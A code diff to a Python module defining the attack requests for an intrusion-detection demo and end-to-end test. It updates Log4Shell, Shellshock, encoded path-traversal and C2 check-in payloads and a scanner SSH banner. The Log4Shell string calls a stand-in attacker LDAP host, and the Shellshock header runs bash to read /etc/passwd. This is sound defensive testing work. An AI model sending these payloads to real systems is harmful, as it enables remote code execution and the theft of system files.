@@ -1,7 +1,8 @@
 """The scenario of the demo and of the end-to-end test, as data: what attacks whom, and what must go on undisturbed.
 
 `KINDS` is the one place where the requests are written. They are harmless by themselves: the lab's servers run none
-of it, and the addresses are the lab's own.
+of it, and the addresses are the lab's own. Each is found by the starter rules and by the Emerging Threats rules. No
+harmless check asks for a target of theirs.
 """
 
 from collections.abc import Iterable
@@ -44,35 +45,35 @@ KINDS = (
         "Log4Shell exploit request (CVE-2021-44228)",
         RuleClass.NETWORK_ATTACK,
         BOTH,
-        HttpRequest("/", (("User-Agent", "${jndi:ldap://{attacker}/a}"),)),
+        HttpRequest("/login", (("User-Agent", "${jndi:ldap://{attacker}/a}"),)),
     ),
     AttackKind(
         "shellshock",
         "Shellshock exploit request (CVE-2014-6271)",
         RuleClass.NETWORK_ATTACK,
         BOTH,
-        HttpRequest("/", (("User-Agent", "() { :;}; /bin/bash -c 'cat /etc/passwd'"),)),
+        HttpRequest("/cgi-bin/status", (("User-Agent", "() { :;}; /bin/bash -c 'cat /etc/passwd'"),)),
     ),
     AttackKind(
         "path-traversal",
-        "Path traversal to /etc/passwd",
+        "Path traversal to /etc/passwd (CVE-2021-41773)",
         RuleClass.NETWORK_ATTACK,
         BOTH,
-        HttpRequest("/cgi-bin/../../../../etc/passwd", (("User-Agent", BROWSER),)),
+        HttpRequest("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", (("User-Agent", BROWSER),)),
     ),
     AttackKind(
         "c2-check-in",
         "Command-and-control check-in",
         RuleClass.MALWARE,
         (Direction.OUT,),
-        HttpRequest("/hyperward-test/c2-check-in", (("User-Agent", BROWSER),)),
+        HttpRequest("/geost.php?bid=hw1", (("User-Agent", BROWSER), ("X-Hyperward-Test", "c2-check-in"))),
     ),
     AttackKind(
         "ssh-scanner",
-        "SSH banner of a scanner (ZGrab)",
+        "SSH banner of a scanner (ScanSSH)",
         RuleClass.NETWORK_ATTACK,
         BOTH,
-        SshBanner("SSH-2.0-ZGrab ZGrab SSH Survey"),
+        SshBanner("SSH-1.0-SSH_Version_Mapper"),
     ),
 )
 
@@ -122,6 +123,8 @@ class Check:
     server_address: str
     size: int = 0
     """Bytes of a download."""
+    rate: int = 0
+    """The most bytes a second that it takes, 0 for no limit; the QEMU VM knows none."""
 
     @property
     def name(self) -> str:
